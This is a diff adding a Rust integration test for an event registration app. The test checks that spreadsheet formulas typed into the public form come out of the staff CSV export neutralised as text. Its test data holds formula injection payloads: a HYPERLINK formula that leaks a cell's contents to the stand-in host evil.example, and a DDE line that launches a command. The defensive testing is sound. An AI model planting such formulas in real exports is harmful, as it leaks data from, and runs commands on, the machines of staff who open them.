@@ -114,3 +114,82 @@ async fn the_participant_page_is_for_staff_only() {
     assert!(page.body.contains("Thailand"));
     assert!(!page.body.contains("<td>Cambodia</td>"));
 }
+
+/// Names typed into the public form reach staff spreadsheets: a formula in one must arrive
+/// as text (a leading `'`), never run when the export is opened.
+#[tokio::test]
+async fn formulas_typed_into_the_public_form_come_out_of_the_csv_as_text() {
+    const OPEN: &str = "access-to-justice-2027";
+    let app = common::demo_app_at(2026, 11, 23).await;
+    let names = [
+        (
+            "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"x\")",
+            "f1@example.org",
+        ),
+        ("@SUM(1+1)*cmd|' /C calc'!A0", "f2@example.org"),
+        ("+Thida Aung", "f3@example.org"),
+        ("-Lwin", "f4@example.org"),
+        ("Aye Aye Myint", "f5@example.org"),
+    ];
+    for (i, (name, email)) in names.iter().enumerate() {
+        let key = format!("formula-submission-{i:04}");
+        let fields = [
+            ("slug", OPEN),
+            ("form[name_latin]", name),
+            ("form[email]", email),
+            ("form[country_code]", "MM"),
+            ("form[consent]", "on"),
+            ("form[submission_key]", &key),
+        ];
+        let req = axum::http::Request::post("/api/register")
+            .header("host", "127.0.0.1:3000")
+            .header("accept", "text/html")
+            .header(
+                "referer",
+                format!("http://127.0.0.1:3000/events/{OPEN}/register"),
+            )
+            .header("content-type", "application/x-www-form-urlencoded")
+            .header("sec-fetch-site", "same-origin")
+            .body(axum::body::Body::from(common::encode(&fields)))
+            .unwrap();
+        let reply = app.send(req).await;
+        let location = reply.header("location").unwrap_or_default();
+        assert!(!location.contains("error"), "{name}: {location}");
+    }
+
+    app.create_user("s@example.org", "staff-password-1", Role::Staff)
+        .await;
+    let cookie = app.login("s@example.org", "staff-password-1").await;
+    let csv = app
+        .get(
+            &format!("/manage/events/{OPEN}/participants.csv"),
+            Some(&cookie),
+        )
+        .await;
+    assert_eq!(csv.status, 200);
+    let rows = parse(csv.body.as_bytes());
+    let name_of = |email: &str| {
+        rows.iter()
+            .find(|r| r[3] == email)
+            .unwrap_or_else(|| panic!("{email} in {rows:?}"))[1]
+            .clone()
+    };
+    for (name, email) in &names[..4] {
+        assert_eq!(
+            name_of(email),
+            format!("'{name}"),
+            "neutralised, rest intact"
+        );
+    }
+    assert_eq!(
+        name_of("f5@example.org"),
+        "Aye Aye Myint",
+        "a plain name unchanged"
+    );
+    assert!(
+        rows.iter()
+            .flatten()
+            .all(|cell| !cell.starts_with(['=', '+', '-', '@', '\t', '\r'])),
+        "no cell starts a formula"
+    );
+}
